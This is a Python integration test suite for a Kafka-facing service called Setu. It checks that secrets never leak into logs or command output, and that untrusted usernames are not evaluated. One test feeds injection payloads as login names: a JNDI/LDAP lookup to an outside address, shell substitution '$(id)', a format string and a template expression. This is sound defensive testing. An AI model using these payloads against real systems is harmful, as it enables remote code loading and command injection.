# SPDX-License-Identifier: Apache-2.0
"""What Setu is told in confidence, it tells nobody; and what strangers say is text to it."""

import base64
import os
import pathlib
import re
import signal
import subprocess

from tests.integration import kafka_client as kafka
from tests.integration.stage import PASSWORDS, StageTest
from tests.rig.process import wait_until
from tests.rig.setu import private_file


class Secrets(StageTest):
    @classmethod
    def arrange(cls, stage):
        stage.config["log"]["level"] = "debug"
        stage.config["control"] = {"socket": stage.directory / "control.sock"}

    def secrets(self) -> dict[str, bytes]:
        """What to look for, by name: as it is, and in base64 as it goes over wires and into dumps."""
        found = {f"password of {name}": password.encode() for name, password in PASSWORDS.items()}
        found |= {f"{name} at the broker": f"{name}-at-the-broker".encode() for name in ("orders", "payments", "setu")}
        found |= {f"{name} in base64": base64.b64encode(value) for name, value in list(found.items())}
        found["wrong password"] = b"canary-wrong-9f3b"
        for name, certificate in self.stage.certificates.items():
            body = "".join(line for line in pathlib.Path(certificate.key).read_text().splitlines() if "-----" not in line)
            found[f"key of {name}"] = body[40:104].encode()
        users = (self.stage.directory / "users.yaml").read_text()
        for word in ("stored_key", "server_key"):
            for i, value in enumerate(re.findall(rf"{word}=([A-Za-z0-9+/=]+)", users)):
                found[f"{word} {i}"] = value.encode()
        return found

    def verb(self, *words) -> bytes:
        done = subprocess.run([self.stage.program, *map(str, words)], capture_output=True, timeout=60)
        return done.stdout + done.stderr

    def test_t65_no_secret_is_told_anywhere(self):
        """T65: in the log at its most talkative, the audit log and its exports, counters, status, the configuration as
        Setu prints it, and in what it says of files that are wrong."""
        stage, config = self.stage, self.stage.config_file
        secrets = self.secrets()
        self.assertGreater(len(secrets), 15)
        for mechanism in ("PLAIN", "SCRAM-SHA-256", "SCRAM-SHA-512"):
            with stage.client(1, mechanism=mechanism) as client:
                client.metadata(["good"])
            with self.assertRaises((PermissionError, kafka.Closed)):
                kafka.Client(stage.port, "orders", "canary-wrong-9f3b", mechanism)
        with stage.client(2, tls=True, mechanism="PLAIN") as client:
            client.metadata(["good"])
        os.kill(stage.process.pid, signal.SIGUSR1)
        said = {
            "check": self.verb("check", "-c", config), "dump": self.verb("check", "-c", config, "--dump"),
            "check as JSON": self.verb("check", "-c", config, "-o", "json"),
            "status": self.verb("status", "-c", config, "-o", "json"), "reload": self.verb("reload", "-c", config),
            "doctor": self.verb("doctor", "-c", config), "map": self.verb("map", "list", "-c", config),
            "map export": self.verb("map", "export", "-c", config),
            "audit": self.verb("audit", "show", stage.directory / "audit.log"),
        }
        # Values of broken files: what is wrong is told by line and key.
        for name, text in (("broken.yaml", (stage.directory / "users.yaml").read_text().replace("scram-sha-512", "scram-sha-500")),
                           ("cut.yaml", (stage.directory / "users.yaml").read_text()[:-40]),
                           ("no.yaml", f"users: [{PASSWORDS['orders']}]\n")):
            broken = private_file(stage.directory / f"setu-{name}", config.read_text().replace("users.yaml", name))
            private_file(stage.directory / name, text)
            said[name] = self.verb("check", "-c", broken)
            self.assertIn(b"error", said[name], "it is refused, and says so")
        stage.fresh_stats()
        wait_until(lambda: len(stage.events(self.mark, "session_closed")) >= 4, 20, "the log has it all")
        said |= {"log": stage.log.read_bytes(), "counters": stage.stats_file.read_bytes(),
                 "audit log": stage.audit_bytes()}
        for where, text in said.items():
            self.assertTrue(text, where)
            for name, secret in secrets.items():
                self.assertFalse(secret in text, f"{name} is in {where}")
        self.assertIn(b"orders", said["log"], "the search finds what is there")

    def test_t66_what_strangers_say_is_not_evaluated(self):
        """T66: names and client ids that some programs would expand."""
        for word in ("${file:/etc/hostname}", "${env:PATH}", "${jndi:ldap://203.0.113.9/a}", "$(id)", "%s%n", "{{7*7}}"):
            mark = self.stage.mark()
            with self.assertRaises(PermissionError):
                kafka.Client(self.stage.port, word, "x", "PLAIN", client_id=word)
            wait_until(lambda: [row for row in self.stage.events(mark) if word in row.values()], 20, f"{word} is logged")
        self.stage.check_good_client(self)
